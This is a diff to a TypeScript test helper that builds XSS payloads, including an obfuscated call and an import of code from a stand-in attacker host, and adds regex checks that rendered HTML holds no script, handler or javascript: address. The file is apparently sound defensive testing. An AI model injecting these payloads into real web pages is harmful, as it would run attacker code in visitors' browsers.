@@ -1,3 +1,5 @@
+import { expect } from 'vitest';
+
 const SCRIPTS = ['alert(1)', 'alert`1`', 'top[8680439..toString(30)](1)', 'import("//evil.example/x.js")'];
 const AROUND = [
   (code: string) => `<script>${code}</script>`,
@@ -18,3 +20,12 @@ const AROUND = [
 ];
 /** Texts that would be scripts where somebody forgot to escape them. */
 export const HOSTILE: readonly string[] = AROUND.flatMap((around) => SCRIPTS.map(around));
+
+/** Fails when HTML that was rendered from hostile texts holds an element, an address or a handler that would run one. */
+export function expectHarmless(html: string): void {
+  expect(html).not.toMatch(/<(?:script|iframe|math|svg onload|img src=x)/i);
+  expect(html).not.toMatch(/<a [^>]*\bhref="[^\w/]*(?:javascript|java\tscript|vbscript|data:text)/i);
+  // What stands between quotes cannot end them: they are escaped there.
+  expect(html.replaceAll(/="[^"]*"/g, '')).not.toMatch(/<[^>]*\son\w+/i);
+  expect(html).not.toContain(' style=');
+}
